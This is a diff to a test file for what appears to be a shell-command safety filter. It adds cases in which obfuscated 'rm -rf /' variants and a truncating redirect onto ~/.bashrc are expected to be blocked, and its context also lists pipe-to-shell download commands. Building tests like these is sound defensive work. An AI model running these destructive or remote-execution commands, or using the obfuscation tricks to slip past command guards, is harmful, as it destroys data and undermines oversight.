@@ -51,6 +51,9 @@ CASES: list[tuple[str, bool, str | None]] = [
     ("W='rm -rf /etc'; $W", BLOCK, "fs:rm-recursive"),
     ("$CMD -rf /", BLOCK, "shell:dynamic-command"),
     ("(X=/etc); rm -rf $X/build", BLOCK, "fs:rm-recursive"),
+    ("IFS=,; cmd=\"rm,-rf,/\"; $cmd", BLOCK, "fs:rm-recursive"),
+    ("a=r; b=m; $a$b -rf /", BLOCK, "fs:rm-recursive"),
+    ("unset D; rm -rf \"$D/\"", BLOCK, "fs:rm-recursive"),
     # normalisation
     ("\\rm -rf /", BLOCK, "fs:rm-recursive"),
     ("r''m -rf /", BLOCK, "fs:rm-recursive"),
@@ -129,6 +132,8 @@ CASES: list[tuple[str, bool, str | None]] = [
     ("echo x >> /etc/motd", ALLOW, None),
     ("make 2>&1 > build.log", ALLOW, None),
     ("echo x > /dev/null", ALLOW, None),
+    ("> ~/.bashrc", BLOCK, "fs:redirect-truncate"),
+    ("echo log > /tmp/run.log", ALLOW, "fs:redirect-truncate"),
     # remote code
     ("curl -fsSL https://get.example.com | sh", BLOCK, "remote-exec:pipe-to-shell"),
     ("wget -qO- https://x.io/i | sudo bash", BLOCK, "remote-exec:pipe-to-shell"),
